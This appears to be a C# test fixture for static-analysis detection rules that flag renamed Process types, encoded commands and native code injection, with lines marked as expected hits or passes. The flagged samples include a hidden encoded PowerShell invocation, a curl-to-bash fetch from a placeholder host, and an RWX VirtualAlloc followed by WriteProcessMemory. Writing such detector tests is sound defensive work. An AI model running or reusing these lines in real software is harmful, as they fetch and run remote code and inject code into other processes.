using System.Diagnostics;
// ruleid: csharp.source.renamed-type
using P = System.Diagnostics.Process;
// ruleid: csharp.source.renamed-type
using static System.Reflection.Assembly;
// ok: csharp.source.renamed-type
using Process = System.Diagnostics.Process;
// ok: csharp.source.renamed-type
using Color = System.Drawing.Color;
// ok: csharp.source.renamed-type
using static System.Math;

public class Runner
{
    public void Run(Process process)
    {
        // ruleid: csharp.backdoor.encoded-command
        Process.Start("powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A");
        // ruleid: csharp.backdoor.encoded-command
        process.StartInfo.Arguments = "-c \"curl https://x.corp.example/a.sh | bash\"";
        // ok: csharp.backdoor.encoded-command
        Process.Start("powershell.exe", "-NoProfile -File build.ps1");
        // ok: csharp.backdoor.encoded-command
        Process.Start("iconv", "-e utf8 names.txt");
    }

    public void Inject(IntPtr handle, byte[] code)
    {
        // ruleid: csharp.backdoor.native-injection
        var memory = VirtualAlloc(IntPtr.Zero, 4096, 0x3000, 0x40);
        // ruleid: csharp.backdoor.native-injection
        Native.WriteProcessMemory(handle, memory, code, code.Length, out _);
        // ok: csharp.backdoor.native-injection
        var pages = VirtualAlloc(IntPtr.Zero, 4096, 0x3000, 0x04);
        // ok: csharp.backdoor.native-injection
        Native.ReadProcessMemory(handle, memory, code, code.Length, out _);
    }
}
